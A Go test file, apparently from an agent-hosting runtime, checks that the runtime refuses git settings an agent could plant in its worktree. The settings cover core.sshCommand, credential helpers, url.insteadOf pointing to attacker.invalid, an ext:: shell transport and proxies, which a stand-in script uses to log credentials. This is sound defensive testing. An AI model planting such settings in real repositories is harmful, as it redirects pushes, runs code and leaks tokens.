package workspace_test

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/bonsai-run/bonsai/internal/board"
	"github.com/bonsai-run/bonsai/internal/gittest"
	"github.com/bonsai-run/bonsai/internal/workspace"
)

// remoteFixture is a project cloned by the runtime, with a ticket's
// worktree holding one commit that the runtime has not pushed yet.
type remoteFixture struct {
	p      *workspace.Provider
	proj   board.Project
	ws     *workspace.Workspace
	data   string // the data directory
	bare   string // the project's repository on disk
	url    string // the project's repo as the runtime passes it to git
	marker string // a file only a program the agent configured writes
	script string // that program: it appends its arguments and environment (and a credential helper's input) to marker
	other  string // a bare repository that is not the project's (the attacker's)
	proxy  *atomic.Int32
}

// newRemoteFixture builds a remoteFixture. With overHTTP, the repository
// is served by git http-backend behind basic auth and the project's repo
// URL carries the token; otherwise it is a file:// URL.
func newRemoteFixture(t *testing.T, overHTTP bool) *remoteFixture {
	t.Helper()
	f := &remoteFixture{proxy: new(atomic.Int32)}
	root := t.TempDir()
	f.bare = filepath.Join(root, "repo.git")
	gittest.Run(t, root, "clone", "-q", "--bare", newRepo(t), f.bare)
	f.other = filepath.Join(root, "other.git")
	gittest.Run(t, root, "init", "-q", "--bare", f.other)
	f.url = "file://" + f.bare
	repo := f.url
	if overHTTP {
		gittest.Run(t, f.bare, "config", "http.receivepack", "true")
		srv := gitHTTPServer(t, root, "x-access-token", "tok-SECRET-42")
		f.url = srv.URL + "/repo.git"
		repo = strings.Replace(srv.URL, "http://", "http://x-access-token:tok-SECRET-42@", 1) + "/repo.git"
	}
	tmp := t.TempDir()
	f.marker = filepath.Join(tmp, "ran")
	f.script = filepath.Join(tmp, "evil.sh")
	// A credential helper reads what git hands it on stdin; ssh and the
	// others keep stdin open, so only the helper's actions read it.
	body := fmt.Sprintf("#!/bin/sh\n{ echo \"args: $*\"; env; } >> %[1]s 2>&1\n"+
		"case \"$1\" in get|store|erase) cat >> %[1]s;; esac\nexit 1\n", f.marker)
	if err := os.WriteFile(f.script, []byte(body), 0o755); err != nil {
		t.Fatal(err)
	}
	f.p, _, f.data = newProvider(t)
	f.proj = project(repo)
	f.ws = prepare(t, f.p, f.proj, ticket(5, "Feature"))
	os.WriteFile(filepath.Join(f.ws.Root, "feature.txt"), []byte("done\n"), 0o644)
	gittest.Run(t, f.ws.Root, "add", ".")
	gittest.Run(t, f.ws.Root, "commit", "-q", "-m", "add feature")
	return f
}

// proxyServer returns the URL of an HTTP proxy that counts the requests
// reaching it and answers none of them.
func (f *remoteFixture) proxyServer(t *testing.T) string {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		f.proxy.Add(1)
		http.Error(w, "no", http.StatusBadGateway)
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

// hasBranch reports whether the bare repository dir has branch b.
func hasBranch(dir, b string) bool {
	return exec.Command("git", "-C", dir, "rev-parse", "--verify", "--quiet", "refs/heads/"+b).Run() == nil
}

// refusalCase is one family of settings the runtime refuses.
type refusalCase struct {
	name     string
	overHTTP bool
	// set writes the settings with `git config` in dir, the worktree.
	set func(t *testing.T, f *remoteFixture, dir string)
	// keys are the keys the error must name, as git lists them.
	keys func(f *remoteFixture) []string
}

func keys(ks ...string) func(*remoteFixture) []string {
	return func(*remoteFixture) []string { return ks }
}

var refusalCases = []refusalCase{
	{name: "core.sshCommand", set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "url.ssh://attacker.invalid/r.git.insteadOf", f.url)
		gittest.Run(t, dir, "config", "core.sshCommand", f.script)
	}, keys: keys("core.sshcommand", "url.ssh://attacker.invalid/r.git.insteadof")},
	{name: "per-worktree config", set: func(t *testing.T, f *remoteFixture, dir string) {
		// The runtime runs git in the clone's own checkout, whose
		// config.worktree applies once extensions.worktreeConfig is on.
		clone := f.p.ClonePath("demo")
		gittest.Run(t, dir, "config", "extensions.worktreeConfig", "true")
		gittest.Run(t, clone, "config", "--worktree", "url.ssh://attacker.invalid/r.git.insteadOf", f.url)
		gittest.Run(t, clone, "config", "--worktree", "core.sshCommand", f.script)
	}, keys: keys("core.sshcommand (in config.worktree)", "git config --worktree --unset-all core.sshcommand",
		"git config --worktree --unset-all url.ssh://attacker.invalid/r.git.insteadof")},
	{name: "core.gitProxy", set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "url.git://attacker.invalid/r.git.insteadOf", f.url)
		gittest.Run(t, dir, "config", "core.gitProxy", f.script)
	}, keys: keys("core.gitproxy", "url.git://attacker.invalid/r.git.insteadof")},
	{name: "core.askPass", overHTTP: true, set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "core.askPass", f.script)
	}, keys: keys("core.askpass")},
	{name: "credential.helper", overHTTP: true, set: func(t *testing.T, f *remoteFixture, dir string) {
		// Git hands a helper the credentials that worked ("store").
		gittest.Run(t, dir, "config", "credential.helper", "!"+f.script)
	}, keys: keys("credential.helper")},
	{name: "credential.<url>.helper", overHTTP: true, set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "credential."+f.url+".helper", "!"+f.script)
		gittest.Run(t, dir, "config", "credential.useHttpPath", "true")
	}, keys: func(f *remoteFixture) []string {
		return []string{"credential." + f.url + ".helper", "credential.usehttppath"}
	}},
	{name: "url.insteadOf", set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "url.file://"+f.other+".insteadOf", f.url)
	}, keys: func(f *remoteFixture) []string { return []string{"url.file://" + f.other + ".insteadof"} }},
	{name: "url.pushInsteadOf", set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "url.file://"+f.other+".pushInsteadOf", f.url)
	}, keys: func(f *remoteFixture) []string { return []string{"url.file://" + f.other + ".pushinsteadof"} }},
	{name: "remote.origin", set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "--add", "remote.origin.pushurl", "file://"+f.other)
		gittest.Run(t, dir, "config", "remote.origin.uploadpack", f.script)
		gittest.Run(t, dir, "config", "remote.origin.receivepack", f.script)
		gittest.Run(t, dir, "config", "remote.origin.proxy", "http://attacker.invalid:3128")
		gittest.Run(t, dir, "config", "remote.origin.vcs", "evil")
	}, keys: keys("remote.origin.pushurl", "remote.origin.uploadpack", "remote.origin.receivepack", "remote.origin.proxy", "remote.origin.vcs")},
	{name: "remote named like the URL", set: func(t *testing.T, f *remoteFixture, dir string) {
		// git fetch <url> applies the settings of a remote named <url>.
		gittest.Run(t, dir, "config", "remote."+f.url+".uploadpack", f.script)
		gittest.Run(t, dir, "config", "remote."+f.url+".receivepack", f.script)
	}, keys: func(f *remoteFixture) []string {
		return []string{"remote." + f.url + ".uploadpack", "remote." + f.url + ".receivepack"}
	}},
	{name: "remote URL named like the URL", set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "remote."+f.url+".url", "file://"+f.other)
	}, keys: func(f *remoteFixture) []string { return []string{"remote." + f.url + ".url"} }},
	{name: "remotes group named like the URL", set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "remote", "add", "evil", f.script+"-not-a-repo")
		gittest.Run(t, dir, "config", "remote.evil.uploadpack", f.script)
		gittest.Run(t, dir, "config", "remotes."+f.url, "evil")
	}, keys: func(f *remoteFixture) []string { return []string{"remotes." + f.url, "remote.evil.uploadpack"} }},
	{name: "include.path", set: func(t *testing.T, f *remoteFixture, dir string) {
		inc := filepath.Join(t.TempDir(), "included")
		os.WriteFile(inc, []byte("[url \"ssh://attacker.invalid/r.git\"]\n\tinsteadOf = "+f.url+"\n[core]\n\tsshCommand = "+f.script+"\n"), 0o644)
		gittest.Run(t, dir, "config", "include.path", inc)
	}, keys: keys("include.path", "core.sshcommand (from an included file)")},
	{name: "includeIf", set: func(t *testing.T, f *remoteFixture, dir string) {
		inc := filepath.Join(t.TempDir(), "included")
		os.WriteFile(inc, []byte("[remote \""+f.url+"\"]\n\tuploadpack = "+f.script+"\n"), 0o644)
		gittest.Run(t, dir, "config", "includeIf.gitdir:/**.path", inc)
	}, keys: func(f *remoteFixture) []string {
		return []string{"includeif.gitdir:/**.path", "remote." + f.url + ".uploadpack (from an included file)"}
	}},
	{name: "http.proxy", overHTTP: true, set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "http.proxy", f.proxyServer(t))
	}, keys: keys("http.proxy")},
	{name: "http.<url>.*", overHTTP: true, set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "http."+f.url+".proxy", f.proxyServer(t))
		gittest.Run(t, dir, "config", "http.extraHeader", "X-Leak: 1")
		gittest.Run(t, dir, "config", "http.sslVerify", "false")
	}, keys: func(f *remoteFixture) []string {
		return []string{"http." + f.url + ".proxy", "http.extraheader", "http.sslverify"}
	}},
	{name: "protocol.allow", set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "protocol.allow", "always")
		gittest.Run(t, dir, "config", "protocol.ext.allow", "always")
		gittest.Run(t, dir, "config", "url.ext::sh -c touch% "+f.marker+".insteadOf", f.url)
	}, keys: func(f *remoteFixture) []string {
		return []string{"protocol.allow", "protocol.ext.allow", "url.ext::sh -c touch% " + f.marker + ".insteadof"}
	}},
	{name: "push signing", set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "push.gpgSign", "if-asked")
		gittest.Run(t, dir, "config", "gpg.program", f.script)
		gittest.Run(t, dir, "config", "gpg.ssh.program", f.script)
		gittest.Run(t, dir, "config", "gpg.ssh.defaultKeyCommand", f.script)
	}, keys: keys("push.gpgsign", "gpg.program", "gpg.ssh.program", "gpg.ssh.defaultkeycommand")},
	{name: "alternate refs command", set: func(t *testing.T, f *remoteFixture, dir string) {
		// fetch lists the refs of the clone's alternates with this
		// command; alternates themselves are refused as tampering
		// (TestProvider_HostGitRunsNothingTheAgentPlanted).
		gittest.Run(t, dir, "config", "core.alternateRefsCommand", f.script)
	}, keys: keys("core.alternaterefscommand")},
	{name: "submodules and bundles", set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "submodule.recurse", "true")
		gittest.Run(t, dir, "config", "fetch.recurseSubmodules", "yes")
		gittest.Run(t, dir, "config", "push.recurseSubmodules", "on-demand")
		gittest.Run(t, dir, "config", "fetch.bundleURI", "file://"+f.other)
		gittest.Run(t, dir, "config", "bundle.evil.uri", "file://"+f.other)
		gittest.Run(t, dir, "config", "transfer.bundleURI", "true")
	}, keys: keys("submodule.recurse", "fetch.recursesubmodules", "push.recursesubmodules", "fetch.bundleuri", "bundle.evil.uri", "transfer.bundleuri")},
	{name: "partial clone", set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "extensions.partialClone", "evil")
		gittest.Run(t, dir, "config", "remote.evil.promisor", "true")
	}, keys: keys("extensions.partialclone", "remote.evil.promisor")},
	{name: "serving side", set: func(t *testing.T, f *remoteFixture, dir string) {
		gittest.Run(t, dir, "config", "uploadpack.packObjectsHook", f.script)
		gittest.Run(t, dir, "config", "receive.procReceiveRefs", "refs/heads")
		gittest.Run(t, dir, "config", "ssh.variant", "simple")
	}, keys: keys("uploadpack.packobjectshook", "receive.procreceiverefs", "ssh.variant")},
}

// TestProvider_RemoteOpsRefuseTheAgentsGitConfig writes, with `git config`
// in the ticket's worktree as the agent can, each family of settings that
// would send the runtime's fetch or push elsewhere or make git run a
// program while it holds the credentials. Push and the next Prepare must
// refuse, name every key and say how to unset it; the configured program
// must not run, and nothing may reach the other repository or the proxy.
// Where a case pairs keys (core.sshCommand with a url.insteadOf that makes
// git use ssh), the pair works without the check.
func TestProvider_RemoteOpsRefuseTheAgentsGitConfig(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	for _, tc := range refusalCases {
		t.Run(tc.name, func(t *testing.T) {
			f := newRemoteFixture(t, tc.overHTTP)
			tc.set(t, f, f.ws.Root)
			want := tc.keys(f)

			pushed, err := f.p.Push(ctx, f.proj, f.ws)
			if err == nil || pushed {
				t.Fatalf("Push = %v, %v; want a refusal", pushed, err)
			}
			checkRefusal(t, f, err, want)
			if hasBranch(f.bare, f.ws.Branch) || hasBranch(f.other, f.ws.Branch) {
				t.Error("the branch was pushed")
			}

			_, err = f.p.Prepare(ctx, f.proj, ticket(5, "Feature"))
			var re *workspace.RepoError
			if !errors.As(err, &re) {
				t.Fatalf("Prepare = %v, want a *RepoError so that beats back off", err)
			}
			checkRefusal(t, f, err, want)

			if b, err := os.ReadFile(f.marker); err == nil {
				t.Errorf("git ran the agent's program:\n%s", b)
			}
			if n := f.proxy.Load(); n > 0 {
				t.Errorf("%d requests reached the agent's proxy", n)
			}
		})
	}
}

// checkRefusal checks that err is an *UnsafeConfigError whose message
// names keys, says how to unset them in projects/demo, and shows neither
// host paths of the data directory nor the token.
func checkRefusal(t *testing.T, f *remoteFixture, err error, keys []string) {
	t.Helper()
	var ue *workspace.UnsafeConfigError
	if !errors.As(err, &ue) {
		t.Fatalf("error = %v, want an *UnsafeConfigError", err)
	}
	msg := err.Error()
	for _, k := range keys {
		if !strings.Contains(msg, k) {
			t.Errorf("error does not name %s:\n%s", k, msg)
		}
		if k, inc := strings.CutSuffix(k, " (from an included file)"); !inc && !strings.Contains(msg, "--unset-all ") {
			t.Errorf("error does not say how to unset %s:\n%s", k, msg)
		}
	}
	real, _ := filepath.EvalSymlinks(f.data)
	if !strings.Contains(msg, "projects/demo") || strings.Contains(msg, f.data) || strings.Contains(msg, real) {
		t.Errorf("error should name projects/demo without the host path:\n%s", msg)
	}
	if strings.Contains(msg, "SECRET") {
		t.Errorf("error shows the token:\n%s", msg)
	}
}

// TestProvider_RemoteOpsKeepOrdinaryConfig writes, from the worktree, the
// settings an agent, its tools (husky, git lfs install --local, git
// submodule init, git remote add) and people commonly put in a clone's
// config, next to what Bonsai and git write themselves: fetch and push must
// still work, with the credentials, and leave the settings alone.
func TestProvider_RemoteOpsKeepOrdinaryConfig(t *testing.T) {
	t.Parallel()
	for _, overHTTP := range []bool{false, true} {
		t.Run(fmt.Sprintf("overHTTP=%v", overHTTP), func(t *testing.T) {
			f := newRemoteFixture(t, overHTTP)
			dir := f.ws.Root
			for _, kv := range [][2]string{
				{"user.name", "Agent"}, {"user.email", "agent@example.com"}, {"user.signingKey", "key"},
				{"commit.gpgSign", "false"}, {"tag.gpgSign", "false"}, {"gpg.format", "ssh"},
				{"core.hooksPath", ".husky/_"}, {"core.autocrlf", "input"}, {"core.editor", "true"}, {"core.pager", "cat"},
				{"color.ui", "auto"}, {"alias.co", "checkout"}, {"alias.sh", "!echo hi"},
				{"diff.tool", "vimdiff"}, {"diff.lockb.textconv", "cat"}, {"merge.conflictStyle", "zdiff3"}, {"merge.ours.driver", "true"},
				{"pull.rebase", "true"}, {"push.autoSetupRemote", "true"}, {"push.default", "current"}, {"push.followTags", "true"},
				{"fetch.prune", "true"}, {"rerere.enabled", "true"}, {"gc.auto", "0"}, {"init.defaultBranch", "main"},
				{"filter.lfs.clean", "git-lfs clean -- %f"}, {"filter.lfs.process", "git-lfs filter-process"}, {"lfs.repositoryformatversion", "0"},
				{"remote.upstream.url", "https://example.com/upstream.git"}, {"remote.upstream.fetch", "+refs/heads/*:refs/remotes/upstream/*"},
				{"submodule.lib.url", "https://example.com/lib.git"}, {"submodule.lib.active", "true"},
				{"branch." + f.ws.Branch + ".description", "the feature"}, {"transfer.fsckObjects", "true"},
				{"extensions.worktreeConfig", "true"},
			} {
				gittest.Run(t, dir, "config", kv[0], kv[1])
			}
			gittest.Run(t, dir, "config", "--worktree", "user.name", "Agent in its worktree")
			ctx := context.Background()
			if pushed, err := f.p.Push(ctx, f.proj, f.ws); err != nil || !pushed {
				t.Fatalf("Push = %v, %v; want true, nil", pushed, err)
			}
			if got, want := gittest.Run(t, f.bare, "rev-parse", f.ws.Branch), gittest.Run(t, dir, "rev-parse", "HEAD"); got != want {
				t.Errorf("remote %s at %s, want %s", f.ws.Branch, got, want)
			}
			prepare(t, f.p, f.proj, ticket(5, "Feature")) // fetches
			prepare(t, f.p, f.proj, ticket(6, "Another")) // a new worktree from origin/main
			if got := gittest.Run(t, dir, "config", "push.default"); got != "current" {
				t.Errorf("push.default = %q after the runtime's fetch and push", got)
			}
		})
	}
}

// TestProvider_PushLeasesOnTheFetchedBranch rewrites the ticket's branch
// after a push (the runtime force-pushes its own branch), then pushes while
// someone else's commit is on the remote branch that the last fetch did not
// see: that push is refused and their commit stays; after the next fetch
// the branch is Bonsai's again.
func TestProvider_PushLeasesOnTheFetchedBranch(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	f := newRemoteFixture(t, false)
	if pushed, err := f.p.Push(ctx, f.proj, f.ws); err != nil || !pushed {
		t.Fatalf("first Push = %v, %v", pushed, err)
	}
	gittest.Run(t, f.ws.Root, "commit", "-q", "--amend", "-m", "add feature, reworded")
	if pushed, err := f.p.Push(ctx, f.proj, f.ws); err != nil || !pushed {
		t.Fatalf("Push of a rewritten branch = %v, %v", pushed, err)
	}
	head := gittest.Run(t, f.ws.Root, "rev-parse", "HEAD")
	if got := gittest.Run(t, f.bare, "rev-parse", f.ws.Branch); got != head {
		t.Fatalf("remote branch at %s, want the rewritten %s", got, head)
	}
	if got := gittest.Run(t, f.ws.Root, "rev-parse", "refs/remotes/origin/"+f.ws.Branch); got != head {
		t.Errorf("origin/%s at %s after the push, want %s", f.ws.Branch, got, head)
	}

	other := filepath.Join(t.TempDir(), "other")
	gittest.Run(t, filepath.Dir(other), "clone", "-q", "-b", f.ws.Branch, f.bare, other)
	gittest.Run(t, other, "commit", "-q", "--allow-empty", "-m", "someone else's commit")
	gittest.Run(t, other, "push", "-q", "origin", f.ws.Branch)
	theirs := gittest.Run(t, other, "rev-parse", "HEAD")

	gittest.Run(t, f.ws.Root, "commit", "-q", "--amend", "-m", "add feature, again")
	if pushed, err := f.p.Push(ctx, f.proj, f.ws); err == nil || pushed {
		t.Fatalf("Push over a commit the last fetch did not see = %v, %v; want an error", pushed, err)
	}
	if got := gittest.Run(t, f.bare, "rev-parse", f.ws.Branch); got != theirs {
		t.Fatalf("remote branch at %s, want their %s kept", got, theirs)
	}
	prepare(t, f.p, f.proj, ticket(5, "Feature"))
	if pushed, err := f.p.Push(ctx, f.proj, f.ws); err != nil || !pushed {
		t.Fatalf("Push after a fetch = %v, %v", pushed, err)
	}
	if got, want := gittest.Run(t, f.bare, "rev-parse", f.ws.Branch), gittest.Run(t, f.ws.Root, "rev-parse", "HEAD"); got != want {
		t.Errorf("remote branch at %s, want %s", got, want)
	}
}
